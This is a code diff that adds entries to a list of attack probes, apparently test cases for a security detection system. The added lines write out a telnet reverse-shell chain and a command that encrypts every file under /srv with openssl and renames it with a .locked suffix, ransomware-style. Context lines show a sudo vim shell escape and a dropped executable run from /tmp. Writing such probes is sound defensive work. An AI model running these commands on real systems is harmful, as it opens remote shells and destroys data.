@@ -262,6 +262,10 @@ ATTACKS = [
         lambda s: s.run("sudo -l"), lambda s: s.run("sudo vim -c ':!/bin/sh'")), uid=1000, cwd="/home/u"),
     Probe("a database server writes a file and runs it", "web", True, _steps(_web("mysqld", "/usr/sbin/mysqld"),
         lambda s: s.script("echo x > /tmp/.m; chmod +x /tmp/.m; /tmp/.m", "chmod +x /tmp/.m", "/tmp/.m"))),
+    Probe("telnet in, bash, telnet out", "admin", True, lambda s: s.run(
+        "telnet 127.0.0.1 4444", "/bin/bash", "telnet 127.0.0.1 4445")),
+    Probe("files encrypted by find -exec", "admin", True, lambda s: s.script(
+        "find /srv -type f -exec openssl enc -aes-256-cbc -pass pass:k -in {} -out {}.locked \\;")),
 ]
 
 ROUTINES = [
